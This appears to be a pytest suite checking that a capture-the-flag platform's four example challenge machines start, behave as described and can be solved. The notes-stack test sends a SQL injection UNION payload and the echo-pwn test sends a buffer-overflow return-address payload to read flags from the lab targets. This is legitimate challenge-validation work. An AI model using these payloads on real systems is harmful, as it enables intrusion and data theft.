"""Each example template builds with no registry, starts, does what its README line says, and leaves nothing."""
import os
import re
import struct
import subprocess
from urllib.parse import quote

import pytest

from harness.gateway import dial, endpoint, fetch, read_until
from harness.leaks import Leaks


@pytest.fixture(scope="module")
def examples(docker, debian, tmp_path_factory):
    from conftest import server_maker
    make, end, _ = server_maker(docker, tmp_path_factory.mktemp("examples"))
    server = make()
    for name in ("hello-web", "notes-stack", "echo-pwn", "debian-shell"):
        server.add_example(name)
    try:
        server.start()
        for name in ("hello-web", "echo-pwn", "debian-shell", "notes-stack"):
            server.admin().wait_template(name, timeout=600)
        yield server
    finally:
        end()


@pytest.fixture
def leaks(examples, docker):
    found = Leaks(examples, docker)
    yield found
    examples.admin().stop_all()
    found.assert_none(60)


@pytest.fixture
def player(examples, request):
    return examples.user(f"player-{request.node.name[:30]}")


def test_R1_2_the_catalogue_shows_all_four_without_a_complaint(examples):
    shown = {t["id"]: t for t in examples.admin().get("/templates").json["items"]}
    assert set(shown) == {"hello-web", "notes-stack", "echo-pwn", "debian-shell"}
    for template in shown.values():
        assert template["state"] == "ready" and not template["problems"], template
        assert template["description"] and template["lease"]["text"]
    assert shown["notes-stack"]["machines"] == 3


def test_R1_2_hello_web(player, leaks):
    instance = player.running("hello-web")
    url = endpoint(instance, kind="http")["url"]
    status, headers, body = fetch(url)
    assert status == 200 and b"This machine is yours" in body and headers["content-type"].startswith("text/html")
    assert fetch(url, "/flag.txt")[2].startswith(b"TILTYARD{")
    assert fetch(url, "/nothing")[0] == 404


def test_R1_3_notes_stack(player, leaks, docker):
    instance = player.running("notes-stack")
    url = endpoint(instance, kind="http")["url"]
    assert fetch(url, "/healthz")[2] == b"ok\n"
    status, headers, _ = fetch(url, "/", "POST", b"text=written+by+a+test", {"Content-Type": "application/x-www-form-urlencoded"})
    assert status == 303 and headers["location"] == "/"
    assert b"written by a test" in fetch(url)[2]
    assert b"written by a test" in fetch(url, "/?q=by+a+test")[2]
    assert re.search(rb"shown \d+ times", fetch(url)[2]), "the cache counts"
    found = fetch(url, "/?q=" + quote("zz' UNION SELECT 'x', text FROM secret --"))[2]
    assert re.search(rb"TILTYARD\{[^}]+\}", found), "the way in is closed"
    made = docker.of_instance(instance["id"])
    assert len(made["containers"]) == 3 and len(made["volumes"]) == 1 and len(made["networks"]) == 2


def test_R1_2_echo_pwn(player, leaks, docker, tmp_path):
    instance = player.running("echo-pwn")
    tcp = endpoint(instance, kind="tcp")
    with dial(tcp) as connection:
        read_until(connection, b"\n")
        connection.sendall(b"hello there\n")
        assert read_until(connection, b"\n") == b"hello there\n"
    win = symbol(docker, docker.machine(instance["id"])["Id"], tmp_path)
    with dial(tcp) as connection:
        read_until(connection, b"\n")
        payload = b"A" * 88 + struct.pack("<Q", win) + b"\n"
        connection.sendall(payload)
        read_until(connection, b"\n")
        connection.sendall(b"cat /flag.txt; exit\n")
        assert b"TILTYARD{" in read_until(connection, b"}")


def symbol(docker, container, folder):
    """The address of `win` in the machine's program."""
    tar = folder / "echo.tar"
    tar.write_bytes(docker.call("GET", f"/containers/{container}/archive", {"path": "/srv/echo"}))
    subprocess.run(["tar", "-xf", tar, "-C", folder], check=True)
    listed = subprocess.run(["nm", folder / "echo"], check=True, capture_output=True, text=True).stdout
    return int(next(line.split()[0] for line in listed.splitlines() if line.endswith(" win")), 16)


def test_R1_2_debian_shell(player, leaks, tmp_path):
    instance = player.running("debian-shell")
    tcp = endpoint(instance, kind="tcp")
    ask = tmp_path / "ask"
    ask.write_text(f"#!/bin/sh\necho '{instance['credentials']['password']}'\n")
    ask.chmod(0o700)
    command = ["ssh", "-p", str(tcp["port"]), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
               "-o", "PubkeyAuthentication=no", "-o", "ConnectTimeout=10", f"{instance['credentials']['user']}@{tcp['host']}", "cat flag.txt; id -un"]
    ran = subprocess.run(command, env={**os.environ, "SSH_ASKPASS": str(ask), "SSH_ASKPASS_REQUIRE": "force"}, capture_output=True, text=True,
                         stdin=subprocess.DEVNULL, timeout=30)
    assert ran.returncode == 0, ran.stderr
    assert ran.stdout.startswith("TILTYARD{") and ran.stdout.endswith("player\n")
    assert instance["credentials"]["user"] == "player"
